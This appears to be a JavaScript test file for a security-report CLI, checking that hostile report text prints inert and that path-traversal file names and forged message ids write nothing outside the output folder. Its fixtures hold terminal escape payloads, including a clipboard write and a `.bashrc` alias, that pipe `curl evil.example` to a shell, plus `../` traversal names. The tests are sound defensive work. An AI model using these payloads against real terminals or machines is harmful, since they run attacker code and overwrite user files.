// The staff machine against a hostile reporter and a compromised deployment: what `sealdrop show`
// prints reaches the terminal inert (no escape sequence, carriage return or bidirectional control
// of theirs), and every file it writes is a new file directly inside the output folder; a message
// id the server makes up (`../../../tmp/pwned`) stops `show` with one clear line before anything
// is written.
import { test, after } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, readdirSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  WORKER, POLICY, ROOT, orgSecretKeyPath, gnupgHome, cli, run, VALID, submitEncrypted,
} from "./lib.mjs";
import { tamperingProxy } from "./proxy.mjs";

const ORG_PUBLIC = join(ROOT, "examples", "policies", "nimbus-cloud", "security.asc");
const ORG_FPR = POLICY.public.key.fingerprint;
const home = await gnupgHome(ORG_PUBLIC);

after(async () => {
  await run("gpgconf", ["--homedir", home, "--kill", "gpg-agent"]);
});

/** What a hostile reporter types: a screen clear, an OSC 52 clipboard write, an OSC 8 link, a
 * one-byte CSI, a carriage return that would overwrite the line, a right-to-left override. */
const HOSTILE = "Clear \x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 " +
  "\x1b]8;;https://evil.example/\x1b\\harmless link\x1b]8;;\x1b\\ \u009b31m\rAll fine, nothing to see \u202etxt.exe";
const BAD_NAME = "../../.bashrc\u202eexe.txt";

/** Every character the CLI must never print as it is (all but \n and \t of C0, DEL, C1, bidi). */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

const submitReport = (fields, files = []) => submitEncrypted(home, ORG_FPR, fields, files);

/** Every path under `dir`, recursively. */
function walk(dir) {
  const found = [];
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    found.push(path);
    if (statSync(path).isDirectory()) found.push(...walk(path));
  }
  return found;
}

/** Fails unless what the CLI printed (stdout and stderr of a `cli()` result) carries nothing that drives a terminal. */
function assertInert(result, what) {
  for (const stream of ["stdout", "stderr"]) {
    const bytes = Buffer.from(result[stream], "utf8");
    assert.ok(!bytes.includes(0x1b), `${what}: no ESC on ${stream}:\n${result[stream]}`);
    assert.ok(!bytes.includes(0x0d), `${what}: no carriage return on ${stream}:\n${result[stream]}`);
    assert.ok(!result[stream].includes("\u009b"), `${what}: no C1 CSI on ${stream}`);
    assert.ok(!result[stream].includes("\u202e"), `${what}: no right-to-left override on ${stream}`);
    const unsafe = UNSAFE.exec(result[stream]);
    assert.equal(unsafe, null, `${what}: ${JSON.stringify(unsafe?.[0])} on ${stream}:\n${result[stream]}`);
  }
  assert.ok(!result.bytes.includes(0x1b), `${what}: the raw stdout bytes carry no ESC either`);
}

test("`sealdrop show` prints a hostile report inert and saves its files, byte for byte, only inside the output folder", async () => {
  const attachment = { name: BAD_NAME, type: "text/plain", bytes: Buffer.from("alias ls='curl evil.example | sh'\n") };
  const title = `Stored XSS ${HOSTILE}`;
  const id = await submitReport({ ...VALID, title, description: `It breaks.\r\n${HOSTILE}\rOverwritten.` }, [attachment]);
  const parent = mkdtempSync(join(tmpdir(), "sealdrop-staff-machine-"));
  const out = join(parent, "out");
  const bashrc = join(parent, "..", ".bashrc");
  const bashrcBefore = existsSync(bashrc) ? readFileSync(bashrc) : null;

  const shown = await cli(["show", id, "--key", orgSecretKeyPath(), "--out", out]);
  // Control characters in the title break the field rules: shown, flagged, exit 8.
  assert.equal(shown.status, 8, `${shown.stderr}\n${shown.stdout}`);
  assert.match(shown.stdout, /WARNING: this report breaks the policy's rules/);
  assertInert(shown, "show");
  // The escapes are there to read, not to run.
  assert.ok(shown.stdout.includes("Clear \\x1b[2J\\x1b]52;c;"), shown.stdout);
  assert.ok(shown.stdout.includes("\\x9b31m\\x0dAll fine"), shown.stdout);
  assert.ok(shown.stdout.includes("\\u{202e}txt.exe"), shown.stdout);

  // Files: only inside the output folder, under a plain name, byte for byte.
  assert.deepEqual(readdirSync(parent), ["out"], "nothing was written next to the output folder");
  if (bashrcBefore === null) assert.ok(!existsSync(bashrc), `the attachment's ../../.bashrc was not written: ${bashrc}`);
  else assert.deepEqual(readFileSync(bashrc), bashrcBefore, `the attachment's ../../.bashrc did not change: ${bashrc}`);
  const saved = readdirSync(out).sort();
  assert.deepEqual(saved, ["bashrc_exe.txt", "report.json", "report.txt"], saved.join(", "));
  for (const name of saved) {
    assert.equal(UNSAFE.exec(name), null, `${JSON.stringify(name)} is a plain name`);
    assert.ok(statSync(join(out, name)).isFile(), name);
  }
  assert.deepEqual(readFileSync(join(out, "bashrc_exe.txt")), attachment.bytes, "the attachment, byte for byte");
  const text = readFileSync(join(out, "report.txt"));
  assert.deepEqual(text, Buffer.from(`Title: ${title}\n`, "utf8"), "report.txt keeps the exact bytes the reporter sent");
  assert.ok(text.includes(0x1b), "report.txt still carries the ESC");
  const json = JSON.parse(readFileSync(join(out, "report.json"), "utf8"));
  assert.equal(json.fields.title, title);
  assert.equal(json.fields.attachments[0].name, BAD_NAME);

  // Run again into the same folder: nothing is overwritten, new files get the next free name.
  const again = await cli(["show", id, "--key", orgSecretKeyPath(), "--out", out]);
  assert.equal(again.status, 8, again.stderr);
  assert.deepEqual(readdirSync(out).sort(),
    ["2-bashrc_exe.txt", "2-report.json", "2-report.txt", "bashrc_exe.txt", "report.json", "report.txt"]);
  assert.deepEqual(readdirSync(parent), ["out"]);
});

test("a message id the server makes up (`../../../tmp/pwned`) stops `sealdrop show` with one clear line, and nothing is written", async () => {
  const id = await submitReport(VALID);
  const messagesPath = `/api/v1/staff/reports/${id}/messages`;
  let tamper = false;
  const proxy = await tamperingProxy(WORKER, ({ method, path, status, body }) => {
    if (!tamper || method !== "GET" || path.split("?")[0] !== messagesPath || status !== 200) return undefined;
    const list = JSON.parse(body.toString("utf8"));
    const forged = { id: "../../../tmp/pwned", at: "2026-11-24T09:15:00+00:00", author: "reporter", armored: "x" };
    list.messages = list.messages.length > 0
      ? [{ ...list.messages[0], id: forged.id }, ...list.messages.slice(1)]
      : [forged];
    return Buffer.from(JSON.stringify(list));
  });
  const pwned = ["/tmp/pwned", join(tmpdir(), "pwned")];
  const before = pwned.map((p) => existsSync(p));
  try {
    const env = { SEALDROP_ENDPOINT: proxy.origin };

    // The control: the same show through the proxy, untouched, works and writes the report.
    const control = mkdtempSync(join(tmpdir(), "sealdrop-staff-machine-control-"));
    const passed = await cli(["show", id, "--key", orgSecretKeyPath(), "--out", join(control, "out")], { env });
    assert.equal(passed.status, 0, `${passed.stderr}\n${passed.stdout}`);
    assert.ok(passed.stdout.includes(VALID.title));
    assert.deepEqual(readdirSync(join(control, "out")).sort(), ["report.json", "report.txt"]);

    tamper = true;
    const parent = mkdtempSync(join(tmpdir(), "sealdrop-staff-machine-pwned-"));
    const out = join(parent, "a", "b", "out");
    const shown = await cli(["show", id, "--key", orgSecretKeyPath(), "--out", out], { env });
    assert.ok(proxy.hits.includes(`GET ${messagesPath}`), proxy.hits.join("\n"));
    assert.equal(shown.status, 6, `${shown.stderr}\n${shown.stdout}`);
    const lines = shown.stderr.trim().split("\n");
    assert.equal(lines.length, 1, `one line: ${shown.stderr}`);
    assert.match(lines[0], /^sealdrop: error: .*`\.\.\/\.\.\/\.\.\/tmp\/pwned` is not a valid id/);
    assertInert(shown, "show with a forged message id");

    // Nothing written: not the output folder, not `pwned` anywhere.
    assert.ok(!existsSync(out), "the output folder was not even created");
    for (const dir of [parent, control]) {
      const found = walk(dir).filter((p) => p.endsWith("pwned"));
      assert.deepEqual(found, [], `no pwned under ${dir}`);
    }
    pwned.forEach((p, i) => assert.equal(existsSync(p), before[i], `${p} was not created`));
  } finally {
    await proxy.close();
  }
});
